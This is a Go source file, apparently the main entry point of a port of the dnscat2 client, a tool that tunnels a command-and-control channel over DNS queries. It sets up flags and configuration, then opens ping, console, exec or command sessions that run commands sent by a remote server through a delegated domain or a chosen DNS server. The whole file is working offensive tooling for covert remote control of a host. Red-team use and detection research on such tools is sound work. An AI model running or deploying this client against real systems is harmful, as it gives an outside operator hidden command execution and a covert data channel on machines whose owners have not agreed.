// Package main implements the dnscat2 client.
package main

import (
	"context"
	"math/rand"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/spf13/cobra"

	"dnscat2/internal/config"
	"dnscat2/internal/logger"
	"dnscat2/internal/metrics"
	"dnscat2/pkg/controller"
	"dnscat2/pkg/driver/command"
	"dnscat2/pkg/session"
	"dnscat2/pkg/tunnel/dns"
)

const (
	Name    = "dnscat2"
	Version = "v0.07-go"
)

var cfgFile string

var rootCmd = &cobra.Command{
	Use:   "dnscat [domain]",
	Short: "A DNS tunnel client",
	Long: `dnscat2 tunnels a command-and-control channel over DNS queries and
responses. Give it a domain that's delegated to the dnscat2 server, or a
--dns-server to talk to directly, and it keeps a session alive against
that server until the session is killed.`,
	Args: cobra.MaximumNArgs(1),
	RunE: runClient,
}

func init() {
	flags := rootCmd.Flags()
	flags.String("domain", "", "domain to tunnel through (e.g. example.com)")
	flags.String("dns-server", "", "DNS server to query directly")
	flags.Uint16("dns-port", 53, "DNS port")
	flags.String("dns-type", "", "DNS record types to use (comma separated)")
	flags.String("secret", "", "pre-shared secret for authentication")
	flags.Bool("no-encryption", false, "disable encryption")
	flags.Duration("delay", 0, "delay between packets")
	flags.Int("max-retransmits", 0, "max retransmit attempts (-1 for infinite)")
	flags.Bool("packet-trace", false, "enable packet tracing")
	flags.Bool("ping", false, "ping the server and exit")
	flags.Bool("console", false, "start a console session instead of a command session")
	flags.String("exec", "", "execute a command instead of opening a command session")
	flags.Int("isn", -1, "initial sequence number override, for debugging")
	flags.String("metrics-addr", "", "address to serve Prometheus metrics on, e.g. :9191")
	flags.String("log-level", "", "log level: debug, info, warn, error")

	rootCmd.PersistentFlags().StringVar(&cfgFile, "config", "", "path to a YAML config file")
}

func main() {
	rand.Seed(time.Now().UnixNano())

	if err := rootCmd.Execute(); err != nil {
		logger.Fatal("%v", err)
	}
}

func runClient(cmd *cobra.Command, args []string) error {
	cfg, err := config.Load(cfgFile)
	if err != nil {
		return err
	}
	applyFlagOverrides(cmd, cfg)

	if len(args) > 0 {
		cfg.Domain = args[0]
	}

	switch strings.ToLower(cfg.LogLevel) {
	case "debug":
		logger.SetLevel(logger.LevelDebug)
	case "warn":
		logger.SetLevel(logger.LevelWarn)
	case "error":
		logger.SetLevel(logger.LevelError)
	default:
		logger.SetLevel(logger.LevelInfo)
	}

	session.PacketTrace = cfg.PacketTrace
	session.PacketDelay = cfg.Delay
	session.DoEncryption = !cfg.NoEncryption
	session.PresharedSecret = cfg.Secret

	controller.SetMaxRetransmits(cfg.MaxRetransmits)

	ctx, cancel := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer cancel()

	if cfg.MetricsAddr != "" {
		registry := metrics.NewRegistry()
		session.Metrics = registry

		promReg := prometheus.NewRegistry()
		registry.MustRegister(promReg)

		go func() {
			if err := metrics.Serve(ctx, cfg.MetricsAddr, promReg); err != nil {
				logger.Error("metrics server stopped: %v", err)
			}
		}()
		logger.Info("serving metrics on %s", cfg.MetricsAddr)
	}

	dnsServer := cfg.DNSServer
	if dnsServer == "" {
		if cfg.Domain == "" {
			logger.Warn("starting without a domain or --dns-server; this only works when")
			logger.Warn("directly connecting to a dnscat2 server")
		}
		dnsServer = systemDNSServer()
		if dnsServer == "" {
			dnsServer = "8.8.8.8"
		}
	}

	if cfg.Domain == "" {
		logger.Warn("running with the system DNS server and no domain name")
		logger.Warn("this is unlikely to work unless you control the DNS server")
		logger.Warn("you probably want either a domain (%s mydomain.com) or --dns-server=1.2.3.4", Name)
	}

	doPing, _ := cmd.Flags().GetBool("ping")
	doConsole, _ := cmd.Flags().GetBool("console")
	doExec, _ := cmd.Flags().GetString("exec")

	var sess *session.Session
	switch {
	case doPing:
		logger.Info("creating a ping session")
		sess, err = session.NewPingSession("ping")
	case doConsole:
		logger.Info("creating a console session")
		sess, err = session.NewConsoleSession("console")
	case doExec != "":
		logger.Info("creating an exec('%s') session", doExec)
		sess, err = session.NewExecSession(doExec, doExec)
	default:
		logger.Info("creating a command session")
		sess, err = newCommandSession("command")
	}
	if err != nil {
		logger.Fatal("failed to create session: %v", err)
	}

	if isn, _ := cmd.Flags().GetInt("isn"); isn >= 0 {
		sess.MySeq = uint16(isn)
	}

	controller.AddSession(sess)

	dnsTypes := cfg.DNSTypes
	logger.Info("creating DNS driver: domain=%s host=0.0.0.0 port=%d type=%s server=%s",
		stringOrNull(cfg.Domain), cfg.DNSPort, dnsTypes, dnsServer)

	dnsDriver, err := dns.NewDriver(cfg.Domain, "0.0.0.0", cfg.DNSPort, dnsTypes, dnsServer)
	if err != nil {
		logger.Fatal("failed to create DNS driver: %v", err)
	}

	defer dnsDriver.Close()
	defer controller.Destroy()

	go func() {
		<-ctx.Done()
		controller.KillAllSessions()
		dnsDriver.Close()
	}()

	dnsDriver.Run()
	return nil
}

// applyFlagOverrides copies flags the user actually set on top of cfg,
// leaving config-file values (or defaults) alone otherwise.
func applyFlagOverrides(cmd *cobra.Command, cfg *config.Config) {
	flags := cmd.Flags()

	if flags.Changed("domain") {
		cfg.Domain, _ = flags.GetString("domain")
	}
	if flags.Changed("dns-server") {
		cfg.DNSServer, _ = flags.GetString("dns-server")
	}
	if flags.Changed("dns-port") {
		cfg.DNSPort, _ = flags.GetUint16("dns-port")
	}
	if flags.Changed("dns-type") {
		cfg.DNSTypes, _ = flags.GetString("dns-type")
	}
	if flags.Changed("secret") {
		cfg.Secret, _ = flags.GetString("secret")
	}
	if flags.Changed("no-encryption") {
		cfg.NoEncryption, _ = flags.GetBool("no-encryption")
	}
	if flags.Changed("delay") {
		cfg.Delay, _ = flags.GetDuration("delay")
	}
	if flags.Changed("max-retransmits") {
		cfg.MaxRetransmits, _ = flags.GetInt("max-retransmits")
	}
	if flags.Changed("packet-trace") {
		cfg.PacketTrace, _ = flags.GetBool("packet-trace")
	}
	if flags.Changed("metrics-addr") {
		cfg.MetricsAddr, _ = flags.GetString("metrics-addr")
	}
	if flags.Changed("log-level") {
		cfg.LogLevel, _ = flags.GetString("log-level")
	}
}

// newCommandSession creates a command session
func newCommandSession(name string) (*session.Session, error) {
	sess, err := session.New(name)
	if err != nil {
		return nil, err
	}

	cmdDriver := command.NewDriver()

	cmdDriver.CreateSession = func(name, cmd string) uint16 {
		newSess, err := session.NewExecSession(name, cmd)
		if err != nil {
			logger.Error("failed to create exec session: %v", err)
			return 0
		}
		controller.AddSession(newSess)
		return newSess.ID
	}

	cmdDriver.OnShutdown = func() {
		controller.KillAllSessions()
	}

	cmdDriver.OnDelayChange = func(delay uint32) {
		session.PacketDelay = time.Duration(delay) * time.Millisecond
	}

	sess.Driver = cmdDriver
	sess.IsCommand = true

	return sess, nil
}

// systemDNSServer reads the first nameserver out of /etc/resolv.conf.
func systemDNSServer() string {
	data, err := os.ReadFile("/etc/resolv.conf")
	if err != nil {
		return ""
	}
	for _, line := range strings.Split(string(data), "\n") {
		line = strings.TrimSpace(line)
		if strings.HasPrefix(line, "nameserver") {
			parts := strings.Fields(line)
			if len(parts) >= 2 {
				return parts[1]
			}
		}
	}
	return ""
}

func stringOrNull(s string) string {
	if s == "" {
		return "(null)"
	}
	return s
}
